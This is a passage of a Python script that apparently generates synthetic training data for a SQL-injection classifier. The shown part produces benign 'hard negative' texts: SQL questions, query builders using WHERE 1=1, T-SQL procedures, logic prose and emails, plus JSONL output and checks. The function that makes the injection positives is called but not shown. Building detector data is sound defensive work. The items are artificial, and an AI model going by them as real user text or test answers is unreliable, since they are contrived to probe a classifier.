        body += f"\n\nReady? Say \"{rng.choice(['let us begin', 'the story starts', 'welcome, traveller'])}\" and then describe the scene."
    return body


def neg_logic_prose(rng: random.Random) -> str:
    x = rng.choice(["x", "p", "a", "q", "y"])
    A, B = rng.sample(["A", "B", "C", "S", "T", "X", "Y"], 2)
    forms = [
        f"In Boolean algebra {x} or 1 = 1 holds for every {x}, and {x} and 0 = 0 likewise.",
        f"The union of two sets {A} and {B} contains every element that is in {A} or in {B} (or both).",
        f"Prove that {A} union {B} equals {B} union {A}, and that the intersection is commutative too.",
        f"Why is '{x} or not {x}' always true? My textbook calls it the law of excluded middle.",
        f"If {x} = 1 then {x} or anything is 1; that's the annihilator law for 'or'.",
        f"The identity laws are {x} or 0 = {x} and {x} and 1 = {x}; the domination laws are {x} or 1 = 1 and {x} and 0 = 0.",
        f"Write the truth table for ({x} and y) or (not {x} and z), then simplify it.",
        "A tautology is a formula like p or not p that is true under every assignment; 1 = 1 is the arithmetic analogue.",
        f"In set notation, the union of {A} and the empty set is just {A}, and the union of {A} with itself is {A} as well.",
        f"De Morgan: not ({x} and y) = (not {x}) or (not y), and not ({x} or y) = (not {x}) and (not y).",
        "My son asked why 1 = 1 is 'true' but 1 = 2 is 'false'. How do I explain equality to a seven-year-old?",
        "The European Union and the African Union both held summits this year, and trade was on the agenda.",
        "The students' union voted to select a new president and to order more chairs for the common room.",
        f"Is the disjoint union of {A} and {B} the same as the ordinary union when {A} and {B} share no elements?",
        f"In probability, P({A} or {B}) = P({A}) + P({B}) - P({A} and {B}), and if they're exclusive the last term is 0.",
        "A logic gate that outputs 1 when either input is 1 is an OR gate; with one input tied to 1 the output is always 1.",
        f"For every {x}, {x} * 0 = 0 and {x} + 0 = {x}; in a Boolean ring {x} + {x} = 0 as well.",
        f"The rule 'select the union of all open intervals containing {x}' defines a neighbourhood in my topology notes.",
    ]
    return rng.choice(forms)


SQL_TABLES = ["orders", "invoices", "customers", "products", "shipments", "events", "sessions",
              "line_items", "suppliers", "reviews", "payments", "subscriptions"]
# Columns by type, so that generated queries compare like with like.
TEXT_COLS = ["status", "region", "category", "country", "sku", "channel"]
NUM_COLS = ["total", "price", "quantity", "amount", "discount", "weight"]
TIME_COLS = ["created_at", "updated_at", "shipped_at", "paid_at"]


def sql_cols(rng: random.Random) -> dict[str, str]:
    s, s2 = rng.sample(TEXT_COLS, 2)
    v, v2 = rng.sample(NUM_COLS, 2)
    return {"s": s, "s2": s2, "v": v, "v2": v2, "ts": rng.choice(TIME_COLS)}


def neg_sql_question(rng: random.Random) -> str:
    t, t2 = rng.sample(SQL_TABLES, 2)
    c = sql_cols(rng)
    s, s2, v, ts = c["s"], c["s2"], c["v"], c["ts"]
    n = rng.randint(1, 5)
    forms = [
        f"What does ORDER BY {n} do? Is it the {n}th column of the select list?",
        f"How do I ALTER TABLE to add a column to {t} without locking it for long?",
        f"Is SELECT ... FOR UPDATE safe when two workers read the same row of {t}?",
        f"What's the difference between UNION and UNION ALL when both queries return {s}?",
        "Why do query builders start with WHERE 1=1 and then append AND clauses?",
        f"Does GROUP BY {n} work in Postgres the same way as in MySQL?",
        f"When should I use HAVING instead of WHERE on {t}.{v}?",
        f"Why is my LEFT JOIN between {t} and {t2} returning more rows than {t} has?",
        "What does the -- at the start of a line mean in a .sql file?",
        f"Is `SELECT * FROM {t} WHERE {s} = 'open' OR {s} = 'pending'` slower than using IN?",
        f"How do I write a CTE that sums {v} per month for {t}?",
        f"Can someone explain window functions like ROW_NUMBER() OVER (PARTITION BY {s} ORDER BY {ts})?",
        f"Should I use COALESCE or ISNULL in SQL Server for a nullable {v}?",
        f"What's the fastest way to paginate {t}: OFFSET/LIMIT or keyset on {ts}?",
        f"Why does my UPDATE ... WHERE {s} = 'x' take a lock on the whole {t} table?",
        "How do prepared statements prevent SQL injection, and does an ORM use them automatically?",
        f"Is it OK to store {v} as VARCHAR or should it be NUMERIC(10,2)?",
        "What does `SELECT 1` return and why do health checks use it?",
        "In T-SQL, what's the difference between EXEC and sp_executesql for a parameterised query?",
        f"What is a sargable predicate? Is `WHERE YEAR({ts}) = 2023` one?",
        f"How would I SELECT the top 3 {t} per {s2} in standard SQL?",
        "Why does `NULL = NULL` evaluate to unknown, and how does IS NULL differ?",
        f"Is it bad practice to use SELECT * in a view over {t}?",
        "How do I UNION two queries that have different column orders?",
        f"Explain what an index on ({s}, {ts}) helps with and what it doesn't.",
        "Our DBA said 'never ORDER BY a column number'. Why?",
        "What's the difference between DELETE with a WHERE clause and TRUNCATE in terms of logging?",
        "Can I use BETWEEN for dates, or does it miss the last day?",
        f"Why do people write `WHERE {s} LIKE 'abc%'` instead of `LIKE '%abc'` for performance?",
        f"Should {t} and {t2} share a sequence for their ids or each have their own?",
    ]
    return rng.choice(forms)


def neg_tsql_procedure(rng: random.Random) -> str:
    t = rng.choice(SQL_TABLES)
    c = sql_cols(rng)
    s, v, ts = c["s"], c["v"], c["ts"]
    name = rng.choice(["usp_CloseOrder", "usp_RecalcTotals", "usp_ArchiveMonth", "usp_GetCustomerSummary",
                       "usp_UpdateStatus", "usp_ApplyDiscount", "usp_LogEvent", "usp_RefreshStats"])
    app_proc = rng.choice(["dbo.usp_LogEvent", "dbo.usp_NotifyOwner", "app.usp_WriteAudit",
                           "dbo.usp_TouchCache", "sales.usp_RecalcTotals"])
    n = rng.randint(1, 90)
    header = rng.choice([
        f"-- {name}: called nightly by the scheduler\n",
        f"/* {name}\n   Owner: data team. Keep it idempotent. */\n",
        "",
        "-- Changed to use TRY/CATCH, see review notes\n",
    ])
    lines = [
        f"CREATE PROCEDURE dbo.{name}\n    @Id INT,\n    @Days INT = {n}\nAS\nBEGIN",
        "    SET NOCOUNT ON;",
        "    DECLARE @Cutoff DATETIME2 = DATEADD(DAY, -@Days, SYSUTCDATETIME());",
        "    DECLARE @Count INT = 0;",
    ]
    body_opts = [
        f"    IF EXISTS (SELECT 1 FROM dbo.{t} WHERE Id = @Id AND {ts} < @Cutoff)\n    BEGIN\n        UPDATE dbo.{t} SET {s} = 'closed' WHERE Id = @Id;\n        SET @Count = @@ROWCOUNT;\n    END",
        f"    SELECT @Count = COUNT(*) FROM dbo.{t} WHERE {ts} >= @Cutoff;",
        "    IF @Count = 0\n        RETURN 0;",
        f"    EXEC {app_proc} @Id = @Id, @Message = N'processed';",
        f"    -- keep the old rows for audit, only flag them\n    UPDATE dbo.{t} SET IsArchived = 1 WHERE {ts} < @Cutoff AND IsArchived = 0;",
        f"    BEGIN TRY\n        BEGIN TRANSACTION;\n        INSERT INTO dbo.{t}_history ({s}, {v}) SELECT {s}, {v} FROM dbo.{t} WHERE Id = @Id;\n        COMMIT TRANSACTION;\n    END TRY\n    BEGIN CATCH\n        IF @@TRANCOUNT > 0 ROLLBACK TRANSACTION;\n        THROW;\n    END CATCH",
        "    SET @Count = @Count + 1;",
        "    IF @Days > 365 OR @Days < 1\n    BEGIN\n        RAISERROR('Days out of range', 16, 1);\n        RETURN;\n    END",
        f"    SELECT Id, {s}, {v} FROM dbo.{t} WHERE Id = @Id OR ParentId = @Id ORDER BY {ts};",
    ]
    chosen = rng.sample(body_opts, rng.randint(2, 5))
    script = header + "\n".join(lines + chosen) + "\n    RETURN @Count;\nEND\nGO"
    if rng.random() < 0.3:
        script += f"\n\nEXEC dbo.{name} @Id = {rng.randint(1, 500)}, @Days = {n};"
    intro = rng.choice([
        "Can you review this stored procedure?",
        "Why does this procedure return 0 sometimes?",
        f"Please add logging to {name}:",
        "Convert this T-SQL procedure to PL/pgSQL:",
        "Is this procedure safe to run twice?",
        "Explain what this does, step by step.",
    ])
    fence = rng.choice(["sql", "tsql", "", "sql"])
    return f"{intro}\n\n```{fence}\n{script}\n```"


def neg_sql_codeblock(rng: random.Random) -> str:
    t, t2 = rng.sample(SQL_TABLES, 2)
    c = sql_cols(rng)
    s, s2, v, v2, ts = c["s"], c["s2"], c["v"], c["v2"], c["ts"]
    n = rng.randint(1, 100)
    queries = [
        f"SELECT o.id, o.{v}, c.name\nFROM {t} o\nJOIN customers c ON c.id = o.customer_id\nWHERE o.{v2} > {n}\nORDER BY o.{ts} DESC;",
        f"WITH monthly AS (\n  SELECT date_trunc('month', {ts}) AS m, SUM({v}) AS total\n  FROM {t}\n  GROUP BY 1\n)\nSELECT m, total, total - LAG(total) OVER (ORDER BY m) AS delta\nFROM monthly;",
        f"SELECT {s}, {v},\n       ROW_NUMBER() OVER (PARTITION BY {s} ORDER BY {v} DESC) AS rn\nFROM {t}\nQUALIFY rn <= 3;",
        f"SELECT {s}, COUNT(*) AS n\nFROM {t}\nGROUP BY {s}\nHAVING COUNT(*) > {n}\nORDER BY n DESC\nLIMIT 10;",
        f"SELECT a.id FROM {t} a\nLEFT JOIN {t2} b ON b.{s} = a.{s} AND b.{s2} = 'active'\nWHERE b.id IS NULL;",
        f"SELECT id, {v} FROM {t} WHERE {s} = 'open' OR {s} = 'pending'\nUNION ALL\nSELECT id, {v} FROM {t2} WHERE {s} = 'open';",
        f"SELECT * FROM {t}\nWHERE {ts} BETWEEN '2024-01-01' AND '2024-03-31'\n  AND {s} IN ('EU', 'UK')\nORDER BY {ts};",
        f"INSERT INTO {t} ({s}, {v}) VALUES ('north', {n})\nON CONFLICT ({s}) DO UPDATE SET {v} = EXCLUDED.{v};",
        f"UPDATE {t} SET {v} = {v} + 1 WHERE id = $1 RETURNING {v};",
        f"SELECT {s}, SUM({v}) FILTER (WHERE {v} > 0) AS positive\nFROM {t}\nGROUP BY ROLLUP ({s});",
        f"SELECT id FROM {t} WHERE {s} = ? AND ({v} IS NULL OR {v} > ?) ORDER BY id LIMIT ? OFFSET ?",
        f"CREATE INDEX CONCURRENTLY idx_{t}_{s} ON {t} ({s}, {ts});",
        f"CREATE VIEW recent_{t} AS\nSELECT * FROM {t} WHERE {ts} > now() - interval '{n} days';",
        f"SELECT t.{s}, string_agg(t.{s2}, ', ' ORDER BY t.{s2}) AS items\nFROM {t} t\nGROUP BY t.{s};",
        "-- top spenders this quarter\nSELECT customer_id, SUM(amount) AS spent\nFROM payments\nWHERE paid_at >= date_trunc('quarter', now())\nGROUP BY customer_id\nORDER BY spent DESC\nFETCH FIRST 20 ROWS ONLY;",
        f"SELECT CASE WHEN {v} > {n} THEN 'big' WHEN {v} > 0 THEN 'small' ELSE 'none' END AS size, COUNT(*)\nFROM {t}\nGROUP BY 1;",
        f"MERGE INTO {t} AS target\nUSING staging_{t} AS src ON target.id = src.id\nWHEN MATCHED THEN UPDATE SET {v} = src.{v}\nWHEN NOT MATCHED THEN INSERT (id, {v}) VALUES (src.id, src.{v});",
        f"SELECT * FROM {t} WHERE {s} = 'Bob''s Burgers' AND {s2} <> 'closed';",
        f"SELECT id, {s}, {v} FROM {t} WHERE id IN (SELECT {t[:-1]}_id FROM {t2} WHERE {s} = 'open') FOR UPDATE SKIP LOCKED;",
    ]
    builders = [
        ("python", f"sql = \"SELECT id, {v} FROM {t} WHERE 1=1\"\nparams = []\nif region:\n    sql += \" AND region = %s\"\n    params.append(region)\nif min_total:\n    sql += \" AND total >= %s\"\n    params.append(min_total)\ncur.execute(sql, params)"),
        ("javascript", f"let q = 'SELECT * FROM {t} WHERE 1=1';\nconst args = [];\nif (status) {{ q += ' AND status = ?'; args.push(status); }}\nif (from) {{ q += ' AND created_at >= ?'; args.push(from); }}\nconst rows = await db.all(q, args);"),
        ("java", f"StringBuilder sql = new StringBuilder(\"SELECT id FROM {t} WHERE 1=1\");\nif (name != null) sql.append(\" AND name = ?\");\nif (active) sql.append(\" AND active = 1\");\nPreparedStatement ps = conn.prepareStatement(sql.toString());"),
        ("php", f"$sql = \"SELECT * FROM {t} WHERE 1 = 1\";\nif ($category) {{ $sql .= \" AND category = :category\"; }}\n$stmt = $pdo->prepare($sql);\n$stmt->execute(['category' => $category]);"),
        ("go", f"query := \"SELECT id, {v} FROM {t} WHERE 1=1\"\nif f.Country != \"\" {{\n    query += \" AND country = $1\"\n}}\nrows, err := db.Query(query, f.Country)"),
    ]
    if rng.random() < 0.28:
        lang, content = rng.choice(builders)
        lang = lang if rng.random() < 0.8 else ""
        intro = rng.choice(["Is this query builder safe from injection?", "Refactor this to use an ORM:",
                            "Why does the WHERE 1=1 trick work here?", "Review this, please:",
                            "Can this be simplified?"])
    else:
        content, lang = rng.choice(queries), rng.choice(["sql", "sql", "", "postgresql", "mysql"])
        intro = rng.choice(["Why is this query slow?", "Explain this query:", "Can you optimise this?",
                            "This returns duplicates, why?", "Rewrite this for SQLite:",
                            "Add a comment to each line of this:", "Is there a bug here?",
                            "Convert this to a SQLAlchemy expression:"])
    return f"{intro}\n\n```{lang}\n{content}\n```" if rng.random() < 0.85 else f"```{lang}\n{content}\n```\n{intro}"


def neg_migration_add_column(rng: random.Random) -> str:
    t = rng.choice(SQL_TABLES)
    col = rng.choice(["notes", "archived_at", "source", "priority", "external_ref", "is_gift",
                      "discount_pct", "locale", "timezone", "version"])
    typ = rng.choice(["TEXT", "TIMESTAMPTZ", "VARCHAR(64)", "INTEGER NOT NULL DEFAULT 0",
                      "BOOLEAN NOT NULL DEFAULT false", "NUMERIC(5,2)", "VARCHAR(16) DEFAULT 'en'"])
    stamp = f"{rng.randint(2021, 2025)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}{rng.randint(0, 23):02d}{rng.randint(0, 59):02d}"
    # Statements such as `ALTER TABLE t ADD COLUMN c` are labelled dangerous in the shared corpus;
    # the negatives here are migrations written in code and questions about the statement.
    form = rng.random()
    if form < 0.4:
        return (f"```python\ndef upgrade():\n    op.add_column('{t}', sa.Column('{col}', sa.Text(), nullable=True))\n\n"
                f"def downgrade():\n    op.drop_column('{t}', '{col}')\n```\nShould this be nullable?")
    if form < 0.6:
        return (f"```ruby\nclass Add{col.title().replace('_', '')}To{t.title().replace('_', '')} < ActiveRecord::Migration[7.1]\n"
                f"  def change\n    add_column :{t}, :{col}, :{typ.split()[0].split('(')[0].lower()}\n  end\nend\n```\nIs {stamp} a good version number for it?")
    question = rng.choice([
        f"How do I ALTER TABLE {t} to add a {col} column without locking it for long?",
        f"Is it safe to ALTER TABLE {t} while the nightly importer is running?",
        f"What is the difference between ALTER TABLE and CREATE TABLE AS when adding {col}?",
        f"Should the {col} column on {t} be added with ALTER TABLE or in a new table?",
        f"Can ALTER TABLE in Postgres 15 add {col} as {typ} without rewriting {t}?",
    ])
    return question


def neg_code_math(rng: random.Random) -> str:
    v = rng.choice(["x", "n", "count", "total", "i", "flag"])
    s1, s2 = rng.choice(PAIRS)
    forms = [
        f"```python\nif answer == '{s1}' or answer == \"{s2}\":\n    {v} = 1\nelse:\n    {v} = 0\n```",
        f"```python\nname = 'O\\'Brien'\ngreeting = f\"Hello, {{name}}\" if name else 'Hello'\n```",
        f"```javascript\nconst ok = a === \"{s1}\" || b === '{s2}';\nlet {v} = ok ? 1 : 0;\n```",
        f"```bash\nif [ \"$1\" = \"{s1}\" ] || [ \"$1\" = \"{s2}\" ]; then\n  echo 'matched'\nfi\n```",
        "```bash\nfor f in *.log; do grep -c 'ERROR' \"$f\" || true; done\n```",
        "In my notes: if a = 1 and b = 2 then a + b = 3, or in general a + b = b + a.",
        f"Solve for {v}: 3{v} + 1 = 10, and check that {v} = 3 satisfies it.",
        f"```python\n{v} = {v} or 1  # default to 1 when {v} is 0 or None\n```",
        f"```ruby\nstatus = params[:status] || 'open'\nputs \"status=#{{status}}\"\n```",
        f"```sh\nexport MODE='{s1}'\n[ -z \"$MODE\" ] && MODE='{s2}' # fallback\n```",
        "```js\nconst label = (count === 1) ? 'item' : 'items'; // 1=1 item, else items\n```",
        f"The expression `'{s1}' if cond else '{s2}'` is Python's ternary; in C it's cond ? \"{s1}\" : \"{s2}\".",
        f"```python\nassert parse('{s1}') is True and parse('{s2}') is False\n```",
        f"```c\nif (argc == 1 || strcmp(argv[1], \"{s1}\") == 0) {{ run(); }}\n```",
        f"```powershell\nif ($env:MODE -eq '{s1}' -or $env:MODE -eq '{s2}') {{ Write-Host 'ok' }}\n```",
        f"```python\nquery = {{'status': '{s1}', 'or': ['{s2}', 'draft']}}\n```",
        f"Let f({v}) = 2{v} + 1; then f(1) = 3 and f(0) = 1, so f(1) - f(0) = 2.",
        f"```yaml\nenabled: '{s1}'\nfallback: \"{s2}\"\nretries: 3 # or 5 on CI\n```",
    ]
    return rng.choice(forms)


def neg_time_percent(rng: random.Random) -> str:
    h, m = rng.randint(7, 19), rng.choice(["00", "15", "30", "45"])
    h2 = h + rng.randint(1, 3)
    p1, p2 = rng.randint(2, 60), rng.randint(1, 30)
    pl = rng.choice(PLACES)
    forms = [
        f"Meet me at {h}:{m} or {h2}:{m} at {pl}, whichever's easier.",
        f"Sales are up {p1}% and costs down {p2}% -- not bad for a quarter that started so badly.",
        f"The train leaves at {h}:{m} and arrives at {h2}:{m}; it's {p1}% fuller on Fridays.",
        f"We're {p1}% done and the rest should take 'a couple of days' or so.",
        f"Battery at {p2}% -- I'll call you back at {h2}:{m} or text if it dies.",
        f"Store hours: {h}:{m}-{h2 + 2}:00 on weekdays, and 10:00-16:00 on Saturdays.",
        f"There's a {p1}% chance of rain after {h}:{m}, so bring a coat or an umbrella.",
        f"Their 'best' plan costs {p2}% more and the 'basic' one is {p1}% cheaper than last year.",
        f"Kick-off is at {h}:{m}; doors open at {h - 1}:{m} and the bar's open 'til late.",
        f"Only {p2}% of respondents said 'never' and {p1}% said 'sometimes' or 'often'.",
        f"The meeting moved from {h}:{m} to {h2}:{m} -- sorry, and thanks for your patience.",
        f"Use 1.5 cups of flour (about {p1}% more than the original) and bake at 180 for {p2} minutes.",
    ]
    return rng.choice(forms)


def neg_email_message(rng: random.Random) -> str:
    n1, n2, n3 = rng.sample(NAMES, 3)
    pl = rng.choice(PLACES)
    day = rng.choice(["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"])
    openings = [f"Hi {n2},", f"Dear {n2},", f"Hey {n2}!", f"Morning {n2},"]
    bodies = [
        f"I'm out 'til {day}, so if it's urgent please ask {n3} or leave a note.",
        "Thanks for Friday - it was great to see everyone, and the kids haven't stopped talking about it.",
        f"Just a reminder that the 'quarterly review' is on {day}; we'll meet at {pl} or online if it rains.",
        "I've attached the draft. Let me know if the 'summary' section's too long or if it reads OK.",
        f"We couldn't find your jacket, but {n3}'s sure it's at {pl}. I'll ask them and let you know.",
        f"Don't forget we've moved the call to {day} -- same time, same link, and bring your questions.",
        f"It's been a while! I'd love to catch up over coffee, or lunch if you're free on {day}.",
        f"Quick update: the shipment's delayed and won't arrive 'til {day}. Sorry, it's out of our hands.",
        "Could you double-check the 'owner' and 'reviewer' fields on the form? I think they're swapped.",
        "I'm sorry I didn't reply sooner; last week's been hectic and I've only just caught up.",
    ]
    closings = ["Best,", "Cheers,", "Thanks,", "Kind regards,", "See you soon,", "Talk soon,"]
    body = " ".join(rng.sample(bodies, rng.randint(1, 3)))
    subject = rng.choice(["", f"Subject: Re: {day}'s plans\n\n", "Subject: quick question\n\n",
                          f"Subject: {n3}'s leaving do\n\n"])
    return f"{subject}{rng.choice(openings)}\n\n{body}\n\n{rng.choice(closings)}\n{n1}"


NEGATIVE_GRAMMARS = {
    # grammar name: (generator, items)
    "quoted_choice": (neg_quoted_choice, 60),
    "possessive": (neg_possessive, 50),
    "contraction": (neg_contraction, 45),
    "dialogue": (neg_dialogue, 60),
    "roleplay": (neg_roleplay, 45),
    "logic_prose": (neg_logic_prose, 55),
    "sql_question": (neg_sql_question, 80),
    "tsql_procedure": (neg_tsql_procedure, 50),
    "sql_codeblock": (neg_sql_codeblock, 80),
    "migration_add_column": (neg_migration_add_column, 30),
    "code_math": (neg_code_math, 55),
    "time_percent": (neg_time_percent, 45),
    "email_message": (neg_email_message, 45),
}


def generate_negatives() -> list[dict]:
    items = []
    seen: set[str] = set()
    for grammar, (fn, count) in NEGATIVE_GRAMMARS.items():
        rng = rng_for(f"neg:{grammar}")
        made = 0
        attempts = 0
        while made < count:
            attempts += 1
            if attempts > count * 400:
                raise SystemExit(f"{grammar}: only {made} distinct texts after {attempts} attempts")
            text = fn(rng)
            if text in seen:
                continue
            seen.add(text)
            made += 1
            items.append({"text": text, "labels": [], "kind": "hard_negative",
                          "source": f"generated:{grammar}", "variant": grammar})
    for i, item in enumerate(items, 1):
        item["id"] = f"neg-gen-{i:05d}"
    return items


# --------------------------------------------------------------------------------------------
# Output and checks
# --------------------------------------------------------------------------------------------

FIELDS = ("id", "text", "labels", "kind", "source", "variant")


def write(path: Path, items: list[dict]) -> None:
    with path.open("w", encoding="utf-8", newline="\n") as f:
        for item in items:
            f.write(json.dumps({k: item[k] for k in FIELDS}, ensure_ascii=False) + "\n")


def check(path: Path, prefix: str) -> dict[str, int]:
    """Every line is JSON with the schema's fields, ids are unique and well formed."""
    ids: set[str] = set()
    per_variant: dict[str, int] = {}
    with path.open(encoding="utf-8") as f:
        for n, line in enumerate(f, 1):
            item = json.loads(line)
            if tuple(item) != FIELDS:
                raise SystemExit(f"{path.name}:{n}: fields {tuple(item)}")
            if not re.fullmatch(rf"{prefix}-\d{{5}}", item["id"]) or item["id"] in ids:
                raise SystemExit(f"{path.name}:{n}: bad or repeated id {item['id']}")
            if not isinstance(item["text"], str) or not item["text"].strip():
                raise SystemExit(f"{path.name}:{n}: empty text")
            if not item["source"].startswith("generated:"):
                raise SystemExit(f"{path.name}:{n}: source {item['source']}")
            ids.add(item["id"])
            per_variant[item["variant"]] = per_variant.get(item["variant"], 0) + 1
    return per_variant


def main() -> None:
    if "--check" not in sys.argv[1:]:
        write(SQLI_FILE, generate_sqli())
        write(NEG_FILE, generate_negatives())
    for path, prefix in ((SQLI_FILE, "sqli-gen"), (NEG_FILE, "neg-gen")):
        counts = check(path, prefix)
        total = sum(counts.values())
        print(f"{path.name}: {total} items")
        for variant, n in sorted(counts.items()):
            print(f"  {variant:<22} {n}")


if __name__ == "__main__":
    main()
